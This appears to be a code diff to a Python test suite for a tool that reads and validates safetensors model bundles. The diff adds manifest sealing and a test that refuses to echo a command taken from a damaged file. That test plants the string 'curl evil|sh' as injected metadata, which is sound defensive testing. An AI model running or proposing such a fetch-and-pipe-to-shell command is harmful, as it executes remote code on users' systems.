@@ -19,7 +19,7 @@ from safetensors.numpy import save as to_safetensors
 from mnuts_core import BundleError, LogitBundle, layer_norm, signed_margin
 from mnuts_core.bundle import METADATA_KEY, content_digest
 from mnuts_core.files import write_atomically
-from mnuts_core.manifest import AttackCard, DataCard, Manifest, ModelCard, ThreatModel
+from mnuts_core.manifest import AttackCard, DataCard, Manifest, ModelCard, ThreatModel, seal_of
 from tests.synthetic import clean_only, make_arrays, make_bundle
 
 
@@ -41,8 +41,8 @@ def same(ours: LogitBundle, theirs: LogitBundle) -> None:
         np.testing.assert_array_equal(array, right[name])
 
 
-def rewrite(path, manifest=None, digest=True, **tensors):
-    """Write the file again with other tensors (None drops one) or manifest, the digest made to fit."""
+def rewrite(path, manifest=None, digest=True, seal=True, **tensors):
+    """Write the file again with other tensors (None drops one) or manifest, digest and seal made to fit."""
     content = path.read_bytes()
     size = struct.unpack("<Q", content[:8])[0]
     text = json.loads(content[8 : 8 + size])["__metadata__"][METADATA_KEY]
@@ -53,6 +53,8 @@ def rewrite(path, manifest=None, digest=True, **tensors):
     told = json.loads(text) | (manifest or {})
     if digest:
         told["digest"] = content_digest(arrays)
+    if seal:
+        told["seal"] = seal_of({key: value for key, value in told.items() if key != "seal"})
     path.write_bytes(to_safetensors(arrays, metadata={METADATA_KEY: json.dumps(told)}))
 
 
@@ -221,9 +223,9 @@ class TestBrokenFiles:
         path.write_bytes(content)
         self.refused(path, "is damaged: .* digest .* get it again")
 
-    def test_the_command_to_rebuild_is_told(self, small, path):
-        rewrite(path, {"command": "mnuts demo build digits", "digest": "sha256:" + "0" * 64}, digest=False)
-        self.refused(path, "or rebuild it with: mnuts demo build digits")
+    def test_no_command_is_taken_from_a_damaged_file(self, small, path):
+        rewrite(path, {"command": "curl evil|sh", "digest": "sha256:" + "0" * 64}, digest=False)
+        self.refused(path, "is damaged: .* or rebuild it$")
 
     def test_random_bytes(self, path):
         path.write_bytes(np.random.default_rng(0).bytes(5000))
@@ -261,8 +263,8 @@ class TestBrokenFiles:
         ("manifest", "said"),
         [
             (
-                {"schema": "mnuts-bundle/2"},
-                "has schema 'mnuts-bundle/2', .* reads 'mnuts-bundle/1': update mnuts",
+                {"schema": "mnuts-bundle/3"},
+                "has schema 'mnuts-bundle/3', .* reads 'mnuts-bundle/2': update mnuts",
             ),
             ({"schema": "other/1"}, "the manifest is wrong at schema"),
             ({"schema": 1}, "the manifest is wrong at schema"),
